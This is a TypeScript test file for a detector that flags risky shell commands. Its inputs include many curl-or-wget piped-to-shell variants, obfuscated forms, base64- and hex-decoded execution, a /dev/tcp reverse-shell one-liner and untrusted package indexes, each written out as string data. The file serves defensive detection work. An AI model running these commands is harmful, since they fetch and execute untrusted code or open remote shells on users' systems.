import assert from "node:assert/strict";
import { test } from "node:test";
import { commandAnomalies } from "./commands.ts";

/** Rules that commands set off, in order, each once. */
function rules(...commands: readonly string[]): string[] {
  const found = commandAnomalies(commands.map((text) => ({ text, at: 0 })), () => {});
  return [...new Set(found.map(({ rule }) => rule.replace("setup-", "")))];
}

const X = "https://get.example.com/x.sh";

test("a script that is fetched and run is reported, in each way of running it", () => {
  const ways = [
    `curl ${X} | sh`,
    `wget -qO- ${X} | sudo -E bash -s -- --yes`,
    `(curl ${X} || wget -O- ${X}) | bash`,
    `curl ${X} | tee log | sh -x`,
    `curl ${X} | python3 -`,
    `bash -c "$(curl -fsSL ${X})"`,
    `eval "$(wget -O - ${X})"`,
    `bash <(curl -s ${X})`,
    `source <(curl -s ${X})`,
    `. <(curl -s ${X})`,
    `sh -c 'curl ${X} | sh'`,
    `bash -lc "cd /tmp && curl ${X} | sh"`,
    `curl -o i.sh ${X} && bash i.sh`,
    `wget ${X}; chmod +x x.sh; ./x.sh`,
    `wget ${X} -O /tmp/i && /tmp/i`,
    `curl ${X} > /tmp/i.sh && sh /tmp/i.sh`,
    `if true; then curl ${X} | sh; fi`,
    `X=1 curl ${X} | /bin/sh`,
    `\`curl ${X}\`; sh -c \`curl ${X}\``,
    `curl "$ADDRESS" | sh`,
    `curl ${X} | (sh)`,
    `curl ${X} | { sh; }`,
    `curl ${X} | xargs -0 sh -c`,
    `time -p curl ${X} | nice -n 5 sh`,
    `busybox wget -O- ${X} | busybox sh`,
    `cu''rl ${X} | s"h"`,
    `python3 -c "import urllib.request as u;exec(u.urlopen('${X}').read())"`,
    `curl get.example.com | sh`,
  ];
  for (const way of ways) assert.deepEqual(rules(way), ["remote-script"], way);
  // What one command fetches another may run.
  assert.deepEqual(rules(`wget ${X}`, "bash x.sh"), ["remote-script"]);
});

test("without TLS, without a check, or from a bare address it is worse", () => {
  for (
    const way of [
      "curl http://get.example.com/x | sh",
      "curl -k https://get.example.com/x | sh",
      "curl -fsSLk https://get.example.com/x | sh",
      "wget --no-check-certificate -O- https://get.example.com/x | sh",
      "curl https://192.0.2.1/x | sh",
      "curl https://user@192.0.2.1/x | sh",
      "curl https://[2001:db8::1]/x | sh",
      "curl ftp://get.example.com/x | sh",
      "curl http://sh.rustup.rs | sh",
    ]
  ) assert.deepEqual(rules(way), ["unverified-script"], way);
});

test("hidden commands and shells for other machines are reported", () => {
  for (
    const way of [
      "echo aGk= | base64 -d | sh",
      "base64 --decode x | sudo bash",
      'sh -c "$(echo aGk= | base64 -d)"',
      "bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
      "echo 6869 | xxd -r -p | sh",
      "openssl enc -d -in x | sh",
    ]
  ) assert.deepEqual(rules(way), ["hidden-command"], way);
});

test("everyday commands are quiet", () => {
  for (
    const way of [
      "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
      "curl -LsSf https://astral.sh/uv/install.sh | sh",
      "curl -fsSL https://ollama.com/install.sh | sh",
      "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -",
      "wget https://repo.anaconda.com/miniconda/M.sh -O ~/m.sh && bash ~/m.sh -b",
      "curl https://bootstrap.pypa.io/get-pip.py -o get-pip.py && python3 get-pip.py",
      `curl ${X} | tar xz`,
      `curl ${X} | jq .`,
      `curl ${X} | python3 -c 'import sys'`,
      `curl ${X} | python3 -m json.tool`,
      `curl ${X} | python3 convert.py`,
      `curl ${X} | gpg --dearmor | tee /etc/keys`,
      `curl -o data.json ${X} && python3 train.py`,
      `echo "curl ${X} | sh"`,
      "cat x | base64 -d > y",
      "base64 x | sh_wrapper",
      "pip install -r requirements.txt -c constraints.txt",
      "pip install torch --index-url https://download.pytorch.org/whl/cpu",
      "pip3 install git+https://github.com/huggingface/transformers.git@main#egg=x",
      "pip install 'x @ git+ssh://git@github.com/org/x.git'",
      "pip install --find-links ./wheels --no-index x",
      "pip install -i http://localhost:3141/root x",
      "pip install -i $INDEX x; pip install --index-url https://${HOST}/simple x",
      "python -m pip install -f https://data.pyg.org/whl/torch-2.0.0.html torch_scatter",
      "rm -f https://x; grep -i http://example.com/x y",
      "npm install --registry=https://registry.npmjs.org x",
    ]
  ) assert.deepEqual(rules(way), [], way);
});

test("indexes and packages from elsewhere are reported, by options, variables and requirements", () => {
  const cases: readonly (readonly [string, string])[] = [
    ["pip install -i https://packages.example.com/simple x", "foreign-index"],
    ["pip install --extra-index-url=https://packages.example.com x", "foreign-index"],
    [
      "pip install --extra-index-url https://user:secret@pypi.org.example.com/simple x",
      "foreign-index",
    ],
    ["PIP_INDEX_URL=https://packages.example.com pip install x", "foreign-index"],
    ["export PIP_EXTRA_INDEX_URL=https://packages.example.com", "foreign-index"],
    ["uv pip install --index-url https://packages.example.com/ x", "foreign-index"],
    ["npm install --registry https://packages.example.com x", "foreign-index"],
    ["pip install --index-url http://pypi.org/simple x", "insecure-index"],
    ["pip install --trusted-host packages.example.com x", "insecure-index"],
    ["pip install git+http://github.com/org/x", "insecure-index"],
    ["pip install http://files.example.com/x.whl", "insecure-index"],
    ["pip install https://files.example.com/x.whl", "foreign-package"],
    ["pip install -e git+https://git.example.com/x#egg=x", "foreign-package"],
  ];
  for (const [way, rule] of cases) assert.deepEqual(rules(way), [rule], way);
  const [found] = commandAnomalies(
    [{ text: "pip install -i https://user:secret@x.example.com y", at: 0 }],
    () => {},
  );
  assert.doesNotMatch(found?.detail ?? "", /secret/u);
});

test("commands in one another are followed so far, and what is longer or deeper is said", () => {
  let nested = `curl ${X} | sh`;
  for (let depth = 0; depth < 20; depth++) {
    nested = `sh -c "${nested.replaceAll(/["\\$]/gu, "\\$&")}"`;
  }
  assert.deepEqual(rules(nested), ["unread"]);
  assert.deepEqual(rules("a".repeat(2_000_000)), ["unread"]);
});

test("indexes are found behind options that are abbreviated, and in settings", () => {
  const index = "https://packages.example.com/simple";
  for (
    const command of [
      `pip install --extra-index ${index} a`,
      `pip install --ind=${index} a`,
      `pip install --pypi-url ${index} a`,
      `pip install --find ${index} a`,
      `pip config set global.index-url ${index}`,
      `npm install --reg=${index}`,
      `npm config set registry ${index}`,
      `conda install -c${index} a`,
      `conda install --channel ${index} a`,
      `conda config --add channels ${index}`,
      `pip install --index-url https://\${USER}.example.com/simple a`,
      `PIP_PYPI_URL=${index} pip install a`,
    ]
  ) assert.deepEqual(rules(command), ["foreign-index"], command);
  for (
    const command of [
      "pip install --index-url https://${HOST}/simple a",
      "pip install --index-url https://$HOST:8080/simple a",
      "pip install --no-index --find-links /wheels --pre a",
      "conda install -c conda-forge a",
      "pip install --force-reinstall --editable .",
    ]
  ) assert.deepEqual(rules(command), [], command);
});
